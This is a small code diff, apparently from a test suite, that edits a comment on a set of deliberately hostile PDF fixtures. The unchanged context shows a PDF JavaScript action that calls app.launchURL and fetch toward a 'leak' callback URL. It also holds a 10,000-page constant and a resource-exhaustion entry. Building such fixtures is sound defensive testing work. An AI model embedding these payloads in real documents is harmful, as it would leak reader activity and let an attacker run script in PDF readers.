@@ -47,7 +47,7 @@ const pictures = (leak: string): PdfDraft => ({
 
 const MANY_PAGES = 10_000;
 
-/** By name; each has "hostile" on its first page. `laughter` is too much for any reader. */
+/** By name; each has "hostile" on its first page. `laughter` is last, and too much for any reader. */
 export const hostileDocuments = (leak: string): Readonly<Record<string, PdfDraft>> => ({
   script: acting(
     `<< /S /JavaScript /JS (globalThis.owned = 1; app.launchURL\\('${leak}/pdf-script'\\); fetch\\('${leak}/pdf-fetch'\\)) >>`,
